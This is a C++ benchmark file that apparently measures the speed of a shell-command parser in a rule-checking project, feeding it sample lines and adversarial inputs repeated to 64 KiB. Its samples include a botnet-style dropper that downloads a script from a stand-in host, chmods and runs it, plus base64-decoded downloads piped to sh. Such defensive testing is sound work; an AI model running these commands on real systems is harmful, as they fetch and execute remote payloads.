// Cost of reading a line into commands: ordinary lines, the labelled scripts and everyday lines of the shared data
// where they are (bar: 150 MB/s), and hostile texts of 64 KiB (bar: 1 ms).
#include "shell/walk/walker.hpp"

#include <benchmark/benchmark.h>
#include <boost/json.hpp>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <string>
#include <string_view>
#include <vector>

namespace {

using namespace rulehost::shell;

struct sample {
    std::string_view name;
    std::string_view text;
};

constexpr sample ordinary[]{
    {"one_command", "cat /proc/cpuinfo"},
    {"dropper",
     "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.7/bins.sh; curl -O "
     "http://192.0.2.7/bins.sh; "
     "chmod 777 bins.sh; sh bins.sh; tftp 192.0.2.7 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; rm -rf bins.sh "
     "tftp1.sh"},
    {"decoder", "echo d2dldCBodHRwOi8vMTkyLjAuMi43L3g= | base64 -d | sh"},
};

/// Pieces that are repeated up to 64 KiB.
constexpr sample hostile[]{
    {"subshells", "("},
    {"substitutions", "$("},
    {"backticks", "`"},
    {"escapes", "\\a"},
    {"arithmetic", "(("},
    {"braces", "{a,b}"},
    {"doubling", "a=$a$a;"},
    {"here_documents", "<<E "},
    {"evals", "eval "},
    {"functions", "f(){ f;};f;"},
    {"loops", "for i in 1 2 3;do "},
    {"cut", "${a##*b*c*d*}"},
    {"globs", "*/?[a-z]* "},
    {"pipes", "a|"},
    {"shells", "sh -c '"},
    {"separators", ";&|"},
    {"redirects", ">a "},
    {"xargs", "echo a b|xargs sh -c;"},
    {"wrappers", "sudo "},
    {"quotes", "'\""},
    {"assignments", "a=b "},
    {"decoders", "echo aWQ=|base64 -d|sh;"},
    {"replace", "a=aaaaaaaa;${a//a/aaaaaaaa}"},
    {"programs", "python -c 'system(\"id\")';"},
};

std::string filled(std::string_view piece) {
    std::string all;
    while (all.size() + piece.size() <= 64 * 1024)
        all += piece;
    return all;
}

void read_lines(benchmark::State& state, std::vector<std::string> const& lines) {
    auto const programs = program_table::shipped();
    walker reads(*programs);
    reading result;
    std::size_t bytes = 0;
    for (auto const& line : lines)
        bytes += line.size();
    for (auto _ : state)
        for (auto const& line : lines)
            for (std::size_t at = 0; at < line.size();)
                at = reads.read(line, at, result);
    state.SetBytesProcessed(state.iterations() * static_cast<std::int64_t>(bytes));
    state.SetItemsProcessed(state.iterations() * static_cast<std::int64_t>(lines.size()));
}

/// The lines of a file of the shared data, or the values of `key` in its JSON lines; none without the data.
std::vector<std::string> shared_lines(std::filesystem::path const& file, std::string_view key = {}) {
    auto const* const shared = std::getenv("RULEHOST_SHARED");
    std::ifstream in(std::filesystem::path(shared != nullptr ? shared : "../shared") / "data" / file);
    std::vector<std::string> all;
    for (std::string line; std::getline(in, line);)
        if (key.empty())
            all.push_back(line);
        else
            all.emplace_back(boost::json::parse(line).at(key).as_string());
    return all;
}

int const registered = [] {
    auto const add = [](std::string const& name, std::vector<std::string> const& lines) {
        if (!lines.empty())
            benchmark::RegisterBenchmark(("shell/" + name).c_str(), read_lines, lines);
    };
    for (auto const& each : ordinary)
        add(std::string(each.name), {std::string(each.text)});
    add("everyday", shared_lines("everyday/tldr-dev.txt"));
    add("labelled", shared_lines("labelled/atomic-linux-dev.jsonl", "script"));
    for (auto const& each : hostile)
        add("hostile/" + std::string(each.name), {filled(each.text)});
    return 0;
}();

} // namespace
